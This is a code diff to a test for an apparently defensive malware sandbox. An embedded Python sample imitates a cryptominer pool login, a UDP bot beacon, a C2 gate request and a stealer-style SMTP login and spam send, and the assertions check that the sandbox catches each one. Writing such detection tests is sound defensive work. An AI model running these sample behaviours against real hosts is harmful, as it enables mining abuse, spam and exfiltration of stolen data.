@@ -102,8 +102,13 @@ try: socket.create_connection(('gulf.moneroocean.stream', 443), timeout=3)
 except OSError as e: print('connect:', e)
 s = socket.create_connection(('203.0.113.7', 5000), timeout=3)
 socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'HELLO bot-7', ('203.0.113.9', 7000))
-import smtplib
-try: smtplib.SMTP('mx.example.test', 25, timeout=5).sendmail('promo@shop.example.test', ['victim@example.test'], 'Subject: You won\\r\\n\\r\\nclick')
+import smtplib, ssl
+try:
+  m = smtplib.SMTP('smtp.example.test', 587, timeout=5)
+  m.starttls(context=ssl._create_unverified_context())
+  m.login('logs@mail.example.test', 'Hunter2!')
+  m.sendmail('promo@shop.example.test', ['victim@example.test'], 'Subject: You won\\r\\n\\r\\nclick')
+  m.quit()
 except Exception as e: print('smtp:', e)
 s.sendall(b'{\\"id\\":1,\\"jsonrpc\\":\\"2.0\\",\\"method\\":\\"login\\",\\"params\\":{\\"login\\":\\"4AbC\\",\\"pass\\":\\"x\\",\\"agent\\":\\"XMRig/6.21.0\\"}}\\n')
 s.close()
@@ -139,10 +144,16 @@ print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', ti
     assert.deepEqual(secure && [secure.protocol, secure.domain, secure.port, secure.http?.method, secure.http?.path, secure.http?.userAgent, secure.decrypted !== undefined], ['tls', 'secure.example.test', 443, 'POST', '/api/beacon', 'implant/2.1', true], JSON.stringify(r.sessions));
     // a datagram to a hard-coded address: caught as a UDP flow with its first bytes
     assert.deepEqual(r.sessions?.filter((c) => c.transport === 'udp').map((c) => [c.address, c.port, c.protocol, c.preview]), [['203.0.113.9', 7000, 'other', 'HELLO bot-7']], JSON.stringify(r.sessions));
-    // a mail sent with python's smtplib: greeted as a mail server, led through the message, judged
+    // a mail sent with python's smtplib as a stealer sends it: greeted as a mail server, upgraded with
+    // STARTTLS (it does not check the certificate), logged in, led through the message, judged
     const mail = r.sessions?.find((c) => c.protocol === 'smtp');
-    assert.deepEqual(mail && [mail.domain, mail.port, mail.smtp], ['mx.example.test', 25, { helo: mail?.smtp?.helo ?? '', from: 'promo@shop.example.test', to: ['victim@example.test'], recipients: 1, subject: 'You won' }], JSON.stringify(r.sessions));
+    assert.deepEqual(mail && [mail.domain, mail.port, mail.smtp], ['smtp.example.test', 587, {
+      helo: mail?.smtp?.helo ?? '', from: 'promo@shop.example.test', to: ['victim@example.test'], recipients: 1, subject: 'You won',
+      auth: { mechanism: 'PLAIN', user: 'logs@mail.example.test', password: 'Hunter2!' }, starttls: true,
+    }], JSON.stringify(r.sessions));
+    assert.ok((mail?.decrypted?.bytes ?? 0) > 0, 'what followed STARTTLS was read in the clear');
     assert.match(r.findings.find((f) => f.rule === 'ST-C2-016')?.output ?? '', /from=promo@shop\.example\.test to=victim@example\.test recipients=1 subject=You won .*process=python3\)$/);
+    assert.match(r.findings.find((f) => f.rule === 'ST-EXF-003')?.output ?? '', /^Mail account login \(user=logs@mail\.example\.test password=Hunter2! mechanism=PLAIN starttls=true .*server=smtp\.example\.test process=python3 /);
     const checked = tls('checked.example.test');
     assert.deepEqual(checked && [checked.protocol, checked.http, checked.decrypted], ['tls', undefined, undefined], JSON.stringify(r.sessions));
     assert.match(r.findings.find((f) => f.rule === 'ST-EXF-002')?.output ?? '', /host=secure\.example\.test uri=\/api\/beacon user_agent=implant\/2\.1 protocol=tls .*process=curl\)$/);
@@ -158,7 +169,7 @@ print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', ti
     assert.deepEqual([again.dns, again.sessions, again.network, again.findings.map((f) => [f.rule, f.output])], [r.dns, r.sessions, r.network, r.findings.map((f) => [f.rule, f.output])]);
     assert.match(html, /Connections caught in the sandbox \(7\)[\s\S]*GET \/gate\.php\?id=1/);
     assert.match(html, /POST \/api\/beacon · Host: secure\.example\.test · User-Agent: implant\/2\.1<\/span><div class="muted small">server name secure\.example\.test · decrypted \(the sample accepted the sandbox's certificate\)<\/div><\/td><td>\d+ <span class="muted small">\(\d+ in the clear\)/);
-    assert.match(html, /<td>smtp<\/td><td><span class="argv">mail from promo@shop\.example\.test to victim@example\.test · Subject: You won · HELO /);
+    assert.match(html, /<td>smtp<\/td><td><span class="argv">mail from promo@shop\.example\.test to victim@example\.test · Subject: You won · HELO [^<]* · logged in as logs@mail\.example\.test \(AUTH PLAIN, password Hunter2!\)<\/span><div class="muted small">STARTTLS: decrypted/);
     assert.match(html, /server name checked\.example\.test<\/span><div class="muted small">refused the sandbox's certificate: nothing decrypted/);
   } finally {
     t.cleanup();
